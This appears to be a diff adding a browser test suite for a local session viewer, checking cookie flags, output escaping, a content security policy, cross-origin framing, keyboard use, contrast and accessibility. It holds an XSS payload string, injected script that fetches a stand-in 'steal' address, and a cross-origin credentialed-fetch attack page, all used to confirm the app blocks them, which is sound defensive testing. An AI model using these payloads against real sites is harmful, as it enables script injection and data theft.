@@ -1,0 +1,231 @@
+"""The pages in a real browser: what a person sees and can do, and that nothing of what is shown ever runs."""
+
+import re
+from collections.abc import Generator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from holdall.bag import Holdall
+from tests.web.conftest import Watched
+from tests.web.stories import Told, investigation, plain
+from tests.web.support import Viewer, done, viewer
+
+pytestmark = pytest.mark.browser
+
+EVIL = "\"><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>'"
+WIDTHS = [pytest.param(375, id="phone"), pytest.param(1100, id="desk")]
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Generator[tuple[Viewer, Told]]:
+    """A store with a hostile session, some plain ones and a whole investigation. Nothing changes it."""
+    home = tmp_path_factory.mktemp("viewer") / "home"
+
+    async def fill() -> Told:
+        await plain(home, EVIL, [(EVIL, EVIL * 100)])
+        for number in range(3):
+            await plain(home, f"plain {number}", [("fetch", "x\n")])
+        return await investigation(home, f"the-longest-name-{'x' * 120}", tool="a_tool_with_a_name_that_never_ends" * 3)
+
+    told = done(fill)
+    with viewer(home) as at:
+        yield at, told
+
+
+def test_the_token_leaves_the_address_bar_and_scripts_cannot_read_it(
+    served: tuple[Viewer, Told], watched: Watched
+) -> None:
+    at, _ = served
+    watched.visit(at.address)
+    assert watched.page.url == f"{at.base}/"
+    assert watched.page.evaluate("document.cookie") == ""
+    (cookie,) = watched.context.cookies()
+    assert (cookie.get("httpOnly"), cookie.get("sameSite")) == (True, "Strict")
+    watched.is_calm()
+
+
+def test_hostile_names_are_text_and_nothing_runs_or_leaves(served: tuple[Viewer, Told], watched: Watched) -> None:
+    at, told = served
+    watched.visit(at.address)
+    assert watched.page.get_by_text(EVIL, exact=True).first.is_visible()
+    watched.page.get_by_role("link", name=EVIL).click()
+    watched.page.wait_for_load_state("networkidle")
+    assert watched.page.title() == f"{EVIL} · Holdall"
+    assert watched.page.locator("h1").inner_text() == EVIL
+    assert watched.page.locator("main img, main script, main iframe").count() == 0
+    watched.visit(f"{at.base}/s/{told.session}")
+    watched.visit(f"{at.base}/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
+    assert watched.page.locator("#q").input_value() == '"><script>alert(1)</script>'
+    watched.is_calm()
+
+
+def test_the_policy_stops_what_would_get_past_the_escaping(served: tuple[Viewer, Told], watched: Watched) -> None:
+    """As if a template had failed: markup that is put into the page still runs nothing and fetches nothing."""
+    at, _ = served
+    watched.visit(at.address)
+    watched.page.evaluate(
+        """() => {
+            window.ran = [];
+            window.refused = [];
+            document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
+            const script = document.createElement('script');
+            script.textContent = 'window.ran.push(1)';
+            document.body.append(script);
+            const place = document.createElement('div');
+            place.innerHTML = '<img src="http://192.0.2.1/x"><a onclick="window.ran.push(2)" id="evil" style="color:red">x</a>';
+            document.body.append(place);
+            document.getElementById('evil').click();
+            fetch('http://192.0.2.1/steal').catch(() => {});
+        }"""
+    )
+    watched.page.wait_for_function("window.refused.length >= 4")
+    assert watched.page.evaluate("window.ran") == []
+    refused = set(watched.page.evaluate("window.refused"))
+    assert {"script-src-elem", "script-src-attr", "style-src-attr", "img-src", "connect-src"} & refused >= {
+        "script-src-elem",
+        "img-src",
+        "connect-src",
+    }
+
+
+def test_another_site_can_neither_frame_nor_fetch_it(served: tuple[Viewer, Told], watched: Watched, home: Path) -> None:
+    at, _ = served
+    watched.visit(at.address)
+    with viewer(home.parent / "other-home") as other:  # another origin on this machine, and the same site for cookies
+        page = watched.context.new_page()
+        page.goto(other.address)
+        page.route("**/attack", lambda route: route.fulfill(body=_attack(at.base), content_type="text/html"))
+        page.goto(f"{other.base}/attack")
+        page.wait_for_function("document.title.startsWith('done')")
+        assert page.title() == "done refused"
+        assert all("Sessions" not in frame.content() for frame in page.frames if frame is not page.main_frame)
+
+
+def _attack(base: str) -> str:
+    return f"""<!doctype html><title>attack</title><iframe src="{base}/"></iframe><script>
+    fetch('{base}/', {{credentials: 'include', mode: 'no-cors'}}).then(
+      () => {{ document.title = 'done opaque'; }}, () => {{ document.title = 'done refused'; }});
+    </script>"""
+
+
+def test_everything_can_be_done_with_the_keyboard(served: tuple[Viewer, Told], watched: Watched) -> None:
+    at, _ = served
+    page = watched.page
+    watched.visit(at.address)
+    page.keyboard.press("Tab")
+    assert _focused(page) == "Skip to the content"
+    page.keyboard.press("Enter")
+    assert page.evaluate("document.activeElement.id") == "main"
+    page.keyboard.press("j")
+    first = _focused(page)
+    page.keyboard.press("j")
+    assert _focused(page) != first
+    page.keyboard.press("k")
+    assert _focused(page) == first
+    page.keyboard.press("/")
+    assert page.evaluate("document.activeElement.id") == "q"
+    page.keyboard.type("plain j")
+    assert page.locator("#q").input_value() == "plain j", "letters are letters in a field"
+    page.keyboard.press("Escape")
+    page.keyboard.press("?")
+    assert page.get_by_role("dialog").is_visible()
+    page.keyboard.press("Escape")
+    assert page.get_by_role("dialog").count() == 0
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    page.wait_for_url(re.compile(r"/s/[0-9a-f-]{36}$"))
+    page.keyboard.press("u")
+    page.wait_for_url(f"{at.base}/")
+    watched.is_calm()
+
+
+def _focused(page: Any) -> str:
+    return str(page.evaluate("document.activeElement.innerText"))
+
+
+@pytest.mark.parametrize("width", WIDTHS)
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_pages_fit_their_window_and_can_be_read(
+    served: tuple[Viewer, Told], watched: Watched, width: int, scheme: Any
+) -> None:
+    at, told = served
+    watched.page.set_viewport_size({"width": width, "height": 800})
+    watched.page.emulate_media(color_scheme=scheme)
+    watched.visit(at.address)
+    for path in ("/", f"/s/{told.session}", "/nowhere"):
+        watched.page.goto(at.base + path, wait_until="networkidle")
+        assert watched.page.evaluate("document.documentElement.scrollWidth") <= width, path
+        poor = watched.page.evaluate(CONTRAST)
+        assert poor == [], path
+    assert watched.troubles == [
+        "console: Failed to load resource: the server responded with a status of 404 (Not Found)"
+    ]
+
+
+# Every text on the page against the ground that it stands on, as WCAG 2 counts it.
+CONTRAST = """() => {
+  const parse = (text) => { const n = text.match(/[\\d.]+/g).map(Number); return n.length < 4 ? [...n, 1] : n; };
+  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
+    .reduce((sum, v, at) => sum + v * [0.2126, 0.7152, 0.0722][at], 0);
+  const ground = (one) => { for (let at = one; at; at = at.parentElement) { const c = parse(getComputedStyle(at).backgroundColor); if (c[3] > 0.99) return c; } return [255, 255, 255, 1]; };
+  const poor = [];
+  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+  while (walker.nextNode()) {
+    const one = walker.currentNode.parentElement;
+    if (!walker.currentNode.data.trim() || !one.getClientRects().length || one.closest('svg')) continue;
+    const style = getComputedStyle(one);
+    const [a, b] = [light(parse(style.color)), light(ground(one))].sort((x, y) => y - x);
+    const ratio = (a + 0.05) / (b + 0.05);
+    if (ratio < 4.5) poor.push(`${walker.currentNode.data.trim().slice(0, 40)}: ${ratio.toFixed(2)}`);
+  }
+  return poor;
+}"""
+
+
+def test_names_and_roles_are_there_for_those_who_do_not_see(served: tuple[Viewer, Told], watched: Watched) -> None:
+    at, told = served
+    watched.visit(at.address)
+    page = watched.page
+    assert page.get_by_role("search").get_by_role("searchbox", name="Search sessions by name").count() == 1
+    watched.visit(f"{at.base}/s/{told.session}")
+    assert page.locator("html").get_attribute("lang") == "en"
+    assert page.get_by_role("main").count() == 1
+    assert page.locator("h1").count() == 1
+    assert page.get_by_role("img", name="Tokens in the context at each turn").count() == 1
+    page.get_by_text("As a table").click()
+    assert page.get_by_role("cell", name="2,100").is_visible()
+    assert page.locator("svg[role=img]:not([aria-label]):not([aria-labelledby])").count() == 0
+    unnamed = "Array.from(document.querySelectorAll('a,button,input')).filter((one) => !(one.innerText || one.labels?.length)).length"
+    assert page.evaluate(unnamed) == 0
+    watched.is_calm()
+
+
+def test_a_running_session_is_seen_to_go_on_and_to_end(home: Path, watched: Watched) -> None:
+    """The page is not loaded again: what is new comes to it, and it stops asking when the session has ended."""
+
+    def step(bag: Holdall, *tools: str) -> None:
+        for tool in tools:
+            bag.journal.record(
+                "called", tool=tool, call_id=tool, seconds=0.1, outcome="inline", is_error=False, chars=1
+            )
+        bag.journal.record("asked", seconds=0.1, purpose="turn", model="m", input_tokens=1, output_tokens=1, why="")
+
+    bag = Holdall.open(home=str(home), session="live")
+    with viewer(home) as at:
+        with bag.lease("a test"):
+            bag.journal.record("turn", number=1, final=False, tokens=10, why="")
+            step(bag, "first_tool")
+            watched.visit(f"{at.base}/s/{bag.session.id}?token={at.token}")
+            page = watched.page
+            page.evaluate("window.sameDocument = true")
+            assert page.get_by_role("status").inner_text() == "running"
+            step(bag, "second_tool")
+            page.get_by_text("second_tool").wait_for()
+            bag.journal.record("reported", status="success", synthetic=False, why="", chars=0, turns=1, seen={})
+        page.get_by_text("success").wait_for()
+        page.wait_for_function("!document.querySelector('[hx-trigger]')")
+        assert page.evaluate("window.sameDocument") is True
+        watched.is_calm()
+    done(bag.close)
